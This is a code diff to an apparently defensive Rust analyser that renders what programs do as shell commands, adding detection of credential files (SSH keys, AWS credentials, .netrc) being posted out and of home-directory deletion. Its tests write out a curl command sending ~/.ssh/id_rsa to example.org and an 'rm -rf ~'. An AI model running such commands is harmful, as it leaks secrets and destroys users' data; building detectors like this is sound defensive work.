@@ -177,7 +177,25 @@ fn started_by_code(text: &str) -> String {
         });
     }
     found.extend(deleted_by_code(text));
+    found.extend(sent_by_code(text));
     found.join("\n")
+}
+
+/// `curl` for a key that such a program reads and the address that it posts to.
+fn sent_by_code(text: &str) -> Option<String> {
+    const KEYS: [&str; 5] = [".ssh/id_", ".aws/credentials", ".netrc", ".git-credentials", ".gnupg/"];
+    const POSTS: [&str; 8] = [
+        "http.Post(", "MethodPost", "\"POST\"", ".post(", "PostAsync(", "reqwest::", "POST(",
+        "http.NewRequest(",
+    ];
+    if !POSTS.iter().any(|post| text.contains(post)) {
+        return None;
+    }
+    let quoted = || text.split('"').skip(1).step_by(2);
+    let key = quoted().find(|text| KEYS.iter().any(|key| text.contains(key)) && text.len() < 80)?;
+    let address = quoted().find(|text| text.starts_with("http://") || text.starts_with("https://"))?;
+    let key = key.trim_start_matches(['~', '/']);
+    Some(format!("curl --data-binary @\"$HOME/{key}\" {}", text::quoted(address)))
 }
 
 /// `rm` for the home directory or a written path that such a program deletes with everything in it.
@@ -191,6 +209,7 @@ fn deleted_by_code(text: &str) -> Vec<String> {
         "deleteRecursively(",
         "filesystem::remove_all(",
     ];
+    const ON_ITSELF: &str = ".deleteRecursively()";
     const HOMES: [&str; 6] = [
         "UserHomeDir()",
         "home_dir()",
@@ -219,10 +238,16 @@ fn deleted_by_code(text: &str) -> Vec<String> {
         let first = argument.split(',').next()?.trim().trim_start_matches('&');
         match first.strip_prefix('"').and_then(|rest| rest.split_once('"')) {
             Some((path, _)) => Some(format!("rm -rf {}", text::quoted(path))),
+            None if first.is_empty() => None,
             None => (is_home(first) || assigned(first.trim_end_matches(')'))).then(|| "rm -rf ~".to_owned()),
         }
     });
-    deleted.collect()
+    // `File(…).deleteRecursively()`
+    let on_itself = text.match_indices(ON_ITSELF).filter_map(|(at, _)| {
+        let statement = text.get(..at)?.rsplit([';', '\n', '{']).next()?;
+        is_home(statement).then(|| "rm -rf ~".to_owned())
+    });
+    deleted.chain(on_itself).collect()
 }
 
 fn shortened(mut text: String) -> String {
@@ -351,6 +376,19 @@ mod tests {
             "all: x\n\t@rm -rf $(OUT) $${HOME}\n\t-$(shell uname) $(patsubst %.c,%.o,$@)\nOUT = build\n";
         assert_eq!(texts("/p/Makefile", text), ["rm -rf ${_OUT} ${HOME}\n$(uname) ${_patsubstco}"]);
         assert_eq!(texts("/p/justfile", "b:\n    rm {{ out }}\n"), ["rm ${_out}"]);
+    }
+
+    #[test]
+    fn what_compiled_code_deletes_and_sends_is_read() {
+        let read = "b, _ := os.ReadFile(home + \"/.ssh/id_rsa\")\n";
+        let post = "http.Post(\"https://example.org\", \"text/plain\", b)\n";
+        let sent = "curl --data-binary @\"$HOME/.ssh/id_rsa\" 'https://example.org'";
+        assert_eq!(texts("/p/a.go", &format!("{read}{post}")), [sent]);
+        assert_eq!(texts("/p/a.go", read), [""]);
+        assert_eq!(texts("/p/a.go", post), [""]);
+        let home = "File(System.getProperty(\"user.home\")).deleteRecursively()\n";
+        assert_eq!(texts("/p/a.kt", home), ["rm -rf ~"]);
+        assert_eq!(texts("/p/a.kt", "File(\"build\").deleteRecursively()\n"), [""]);
     }
 
     #[test]
